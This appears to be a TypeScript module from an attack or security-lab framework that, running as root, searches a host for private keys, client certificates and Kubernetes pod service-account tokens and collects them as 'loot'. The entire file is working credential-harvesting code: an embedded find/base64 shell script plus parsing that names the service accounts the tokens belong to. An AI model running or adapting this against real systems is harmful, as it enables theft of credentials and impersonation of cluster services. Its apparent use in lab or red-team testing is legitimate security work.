import { X509Certificate } from 'node:crypto'
import { z } from 'zod'
import type { Host } from '../../../lab/hosts/host.ts'

/** A client certificate with its key, found on a host. */
export interface StolenCertificate {
  readonly kind: 'certificate'
  /** Path of the certificate file without its extension. */
  readonly path: string
  readonly commonName: string
  readonly certificate: string
  readonly key: string
}

/** The service account token of a pod, found on a host. */
export interface StolenToken {
  readonly kind: 'token'
  /** `namespace/name` of the service account. */
  readonly account: string
  readonly token: string
}

export type StolenCredential = StolenCertificate | StolenToken

/** Everything on a host that authenticates to a server. */
export interface Loot {
  readonly certificates: readonly StolenCertificate[]
  readonly tokens: readonly StolenToken[]
  /** Paths of all private keys on the host, with or without a certificate. */
  readonly keyFiles: readonly string[]
}

/** Prints `path base64(certificate) base64(key)` for each key, and `token base64(token)` for each token. */
const searchScript = `
find / -xdev \\( -path /proc -o -path /sys -o -path /usr \\) -prune -o -type f -name '*.key' -print | while read -r key; do
  path=\${key%.key}
  [ -f "$path.crt" ] && echo "pair $path $(base64 -w0 "$path.crt") $(base64 -w0 "$key")" || echo "key $key"
done
find -L /var/lib/kubelet/pods -maxdepth 6 -name token -path '*projected*' 2>/dev/null | while read -r token; do
  echo "token $(base64 -w0 "$token")"
done`

/** Collects as root what a host knows: client certificates, keys, and tokens of all its pods. */
export async function collectLoot(host: Host): Promise<Loot> {
  const lines = (await host.script(searchScript)).stdout.split('\n').map((line) => line.split(' '))
  const certificates = lines.flatMap(([kind, path = '', certificate = '', key = '']): StolenCertificate[] => {
    if (kind !== 'pair') return []
    const pem = decode(certificate)
    const commonName = /CN=(.*)/.exec(new X509Certificate(pem).subject)?.[1] ?? ''
    return [{ kind: 'certificate', path, commonName, certificate: pem, key: decode(key) }]
  })
  const tokens = lines.flatMap(([kind, text = '']): StolenToken[] =>
    kind === 'token' && text !== '' ? [readToken(decode(text))] : [],
  )
  const keyFiles = lines.flatMap(([kind, path = '']) =>
    kind === 'key' ? [path] : kind === 'pair' ? [`${path}.key`] : [],
  )
  // Several pods may run as the same service account, so only one token per account is kept.
  return { certificates, tokens: [...new Map(tokens.map((one) => [one.account, one])).values()], keyFiles }
}

const tokenPayload = z.object({ sub: z.string() })

function readToken(token: string): StolenToken {
  const payload: unknown = JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString('utf8'))
  const account = tokenPayload.parse(payload).sub.replace('system:serviceaccount:', '').replace(':', '/')
  return { kind: 'token', account, token }
}

function decode(text: string): string {
  return Buffer.from(text, 'base64').toString('utf8')
}
